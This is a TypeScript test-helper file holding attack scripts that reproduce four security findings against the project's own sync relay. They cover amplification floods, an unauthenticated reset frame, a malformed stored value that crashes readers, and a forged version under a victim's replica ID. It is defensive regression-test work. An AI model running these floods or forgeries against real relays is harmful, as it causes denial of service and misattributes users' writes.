/**
 * Attack scripts for the findings whose fixes live in the sync engine (issue 11 #2, #5, #8, #9), as
 * helpers a test can call against a real relay: each opens a raw session (raw-session.ts), sends exactly
 * the crafted frames, and reports what the relay did. open-attacks.test.ts turns them into tests (skipped
 * until the engine fixes land: SECURITY_OPEN=1 runs them). Memory is read from the relay's /metrics
 * (process memory of the relay, so run it as a child process for a clean figure).
 */
import { randomId } from '../../lib/ids.js';
import { Writer } from '../../lib/sync/codec.js';
import { MsgType } from '../../lib/sync/messages.js';
import { rawSession, syncItem, type RawSession } from './raw-session.js';
import { request, until } from './support.js';

export interface Memory {
  rss: number;
  heapUsed: number;
  arrayBuffers: number;
}

/** The relay process's memory (MiB), from /metrics. */
export async function relayMemory(port: number, headers: Record<string, string> = {}): Promise<Memory> {
  const text = (await request(port, { path: '/metrics', headers })).body;
  const kind = (k: string) => Number(new RegExp(`concord_relay_process_memory_bytes\\{kind="${k}"\\} (\\d+)`).exec(text)?.[1] ?? NaN) / 2 ** 20;
  return { rss: kind('rss'), heapUsed: kind('heapUsed'), arrayBuffers: kind('arrayBuffers') };
}

/**
 * A session that synced `space` (its relay's SYNC answer arrived), so anti-entropy and presence are accepted.
 * Its replicaId sorts before any relay's, so it, not the relay, initiates anti-entropy: its turns are answered.
 */
export async function syncedSession(url: string, space: string, options: { token?: string; paused?: boolean; replicaId?: string; top?: number } = {}): Promise<RawSession> {
  const s = rawSession(url, { spaces: [syncItem(space, { keys: 1 })], replicaId: '--------' + randomId(8), ...options });
  await s.ready;
  if (!options.paused) await until(() => s.messages().some((m) => m.type === MsgType.Sync) || s.isClosed, 'the relay synced the space', 10_000);
  return s;
}

/**
 * #2 amplification, the want list: one anti-entropy frame asking `copies` times for the same key. A relay
 * answering without removing duplicates sends `copies` copies of the key's state (1 KB → `copies` KB), all
 * at once, outside its ack window. `paused`: the attacker reads nothing, so everything stays buffered in
 * the relay. Needs only read rights.
 */
export async function wantFlood(url: string, o: { space: string; key: string; copies: number; token?: string; paused?: boolean }): Promise<RawSession> {
  const s = await syncedSession(url, o.space, { ...(o.token ? { token: o.token } : {}) });
  if (o.paused) s.ws.pause();
  s.send({ type: MsgType.AntiEntropy, space: o.space, run: 1 + Math.floor(Math.random() * 1e9), top: 1, items: [], want: Array.from({ length: o.copies }, () => o.key), final: true });
  return s;
}

/**
 * #2 amplification, the range dump: a `range` item for the tree root with no keys makes the relay send its
 * state of every key in the space (the whole space for a ~10-byte item). Duplicates within one turn are
 * merged, so the attack sends `frames` turns, each a new run with one such item: the whole space per frame.
 */
export async function rootRangeFlood(url: string, o: { space: string; frames: number; token?: string; paused?: boolean }): Promise<RawSession> {
  const s = await syncedSession(url, o.space, { ...(o.token ? { token: o.token } : {}) });
  if (o.paused) s.ws.pause();
  for (let i = 0; i < o.frames; i++) {
    s.send({ type: MsgType.AntiEntropy, space: o.space, run: 1 + i, top: 1, items: [{ kind: 'range', level: 0, index: 0, keys: [] }], want: [], final: false });
  }
  return s;
}

/** #5: a RESET as the very first frame (no hello, no token): the relay mints a new replicaId and log epoch. */
export async function unauthenticatedReset(url: string, highest = 2 ** 40): Promise<number> {
  const { WebSocket } = await import('ws');
  const ws = new WebSocket(url);
  ws.on('error', () => {});
  await new Promise<void>((resolve, reject) => {
    ws.once('open', () => resolve());
    ws.once('unexpected-response', () => reject(new Error('upgrade refused')));
  });
  // RESET was message type 6 in protocol 1: the type byte and the dot, as an attacker would send it.
  const w = new Writer();
  w.u8(6);
  w.uint(highest);
  ws.send(w.finish());
  const code = await new Promise<number>((resolve) => {
    ws.once('close', (c) => resolve(c));
    setTimeout(() => resolve(0), 1000);
  });
  ws.terminate();
  return code;
}

/**
 * #8: a writer stores a rich (`~`) value that is not valid superjson; readers' `get` and `scan` of the key
 * then throw. `text` is the stored value as it travels.
 */
export async function malformedRichValue(url: string, o: { space: string; key: string; text: string; token?: string }): Promise<RawSession> {
  const s = await syncedSession(url, o.space, { ...(o.token ? { token: o.token } : {}) });
  s.send({ type: MsgType.Changes, space: o.space, upTo: 0, entries: [[o.key, { vs: [{ r: s.replicaId, n: 1, t: Date.now(), c: 0, v: o.text }], cc: { [s.replicaId]: 1 } }]] });
  return s;
}

/**
 * #9: a writer sends a version under the victim's replicaId with a huge counter. The victim's restore
 * detection (it holds a dot of its own beyond its log?) takes it for proof it was restored from a backup
 * and re-identifies on its next connection; the text is attributed to the victim.
 */
export async function forgedVersion(url: string, o: { space: string; key: string; victim: string; counter: number; token?: string }): Promise<RawSession> {
  const s = await syncedSession(url, o.space, { ...(o.token ? { token: o.token } : {}) });
  s.send({ type: MsgType.Changes, space: o.space, upTo: 0, entries: [[o.key, { vs: [{ r: o.victim, n: o.counter, t: Date.now(), c: 0, v: JSON.stringify('written by someone else') }], cc: { [o.victim]: o.counter } }]] });
  return s;
}
